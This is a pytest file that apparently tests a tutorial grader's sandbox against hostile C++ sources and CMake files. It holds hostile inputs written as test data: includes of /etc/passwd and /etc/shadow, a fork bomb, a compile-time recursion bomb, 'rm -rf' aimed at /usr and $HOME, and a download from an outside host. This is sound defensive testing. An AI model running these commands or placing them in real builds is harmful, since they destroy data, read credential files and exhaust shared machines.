"""Sources and CMake files that bomb, fork, remove or reach out: one line, no harm to others."""

import shutil
import tempfile
from concurrent.futures import ThreadPoolExecutor

import pytest
from edits import put, write
from solution import B
from solution_cpp import TALKER
from test_hostile import FORKS, first_wrong, processes_like

from tutorial_check.examining.examination import examine
from tutorial_check.submission.order import Order
from tutorial_testing.claims import claim
from tutorial_testing.processes import REPOSITORY

LITERAL = REPOSITORY / "test/tutorial_check/exercises/literal_cpp"
MAIN = "int main() {}\n"
WIDE = """
template <int N, int M> struct Tree { typename Tree<N - 1, 2 * M>::T a, b; typedef Tree T; };
template <int M> struct Tree<0, M> { typedef Tree T; };
int main() { return sizeof(Tree<40, 1>); }
"""
BOMB = """
constexpr long fib(int n) { return n < 2 ? n : fib(n - 1) + fib(n - 2); }
static_assert(fib(90) > 0, "");
"""
# Each replaces talker.cpp.
SOURCES = {
    "a device without end": f'#include "/dev/zero"\n{MAIN}',
    "a device with noise": f'#include "/dev/urandom"\n{MAIN}',
    "itself": f"#include __FILE__\n{MAIN}",
    "the system's users": f'#include "/etc/passwd"\n{MAIN}',
    "a file of root's": f'#include "/etc/shadow"\n{MAIN}',
    "work for the compiler": BOMB + MAIN,
    "a large array": f"int many[1 << 30] = {{1}};\n{MAIN}",
}
# Each is in CMakeLists.txt, before find_package.
COMMANDS = {
    "fork": f"file(WRITE ${{CMAKE_BINARY_DIR}}/fork.py [[import os\n{FORKS}]])\n"
    "execute_process(COMMAND python3 ${CMAKE_BINARY_DIR}/fork.py)",
    "remove all": "execute_process(COMMAND rm -rf VICTIM /usr ${CMAKE_SOURCE_DIR} $ENV{HOME})",
    "write elsewhere": "file(WRITE VICTIM/file x)",
    "download": "file(DOWNLOAD http://192.0.2.1/x x TIMEOUT 60 STATUS why)\n"
    "message(FATAL_ERROR ${why})",
}


@pytest.fixture
def scratch(folder, monkeypatch):
    """The folder for a test's copies only, which the programs' users may enter."""
    monkeypatch.setattr(tempfile, "tempdir", str(folder))
    return folder


@claim("A build that bombs, forks, hangs, removes or reaches out ends with one line, harms none")
@pytest.mark.parametrize("whats", [SOURCES, COMMANDS], ids=["sources", "commands"])
def test_a_hostile_build_ends_and_harms_none_beside_or_after_it(underlay, tmp_path, scratch, whats):
    """Two at a time, as with check --all: a right one before and after the hostile ones."""
    victim = tmp_path / "victim"
    victim.mkdir()
    (victim / "kept").touch()
    for name in ("first", *whats, "last"):
        shutil.copytree(LITERAL, tmp_path / name / "src")
        change = whats.get(name, "").replace("VICTIM", str(victim))
        if whats is SOURCES and change:
            write(TALKER, change, 0o644)(tmp_path / name / "src")
        elif change:
            put(f"{B}/CMakeLists.txt", "find_package", f"{change}\n&", 1)(tmp_path / name / "src")
    with ThreadPoolExecutor(2) as pool:
        orders = [Order(tmp_path / name, underlay, ["2"]) for name in ("first", *whats, "last")]
        wrong = [first_wrong(*outcomes) for outcomes in pool.map(examine, orders)]
    assert (wrong[0], wrong[-1]) == ((None, ""), (None, ""))
    for name, (check, report) in zip(whats, wrong[1:]):
        assert check == "C4", (name, report)
        seen = report.partition("seen:")[2].partition("hint:")[0].strip()
        assert seen and "\n" not in seen.partition("where:")[0].strip(), (name, report)
    assert not processes_like(f"{scratch}/") and [*victim.iterdir()] == [victim / "kept"]


ENDLESS = {
    "waits": put(f"{B}/CMakeLists.txt", "find_p", "execute_process(COMMAND sleep 1000)\n&", 1),
    "prints": put(f"{B}/CMakeLists.txt", "find_p", "while(1)\nmessage(again)\nendwhile()\n&", 1),
    "expands": write(TALKER, WIDE, 0o644),
}  # fmt: skip


@claim("A build that bombs ...", because="what never ends; a minute of a processor each")
@pytest.mark.night
@pytest.mark.parametrize("what", ENDLESS)
def test_a_build_without_end_is_ended(underlay, tmp_path, scratch, what):
    shutil.copytree(LITERAL, tmp_path / "src")
    ENDLESS[what](tmp_path / "src")
    check, report = first_wrong(*examine(Order(tmp_path, underlay, ["2"])))
    assert check == "C4", report
    assert not processes_like(f"{scratch}/")
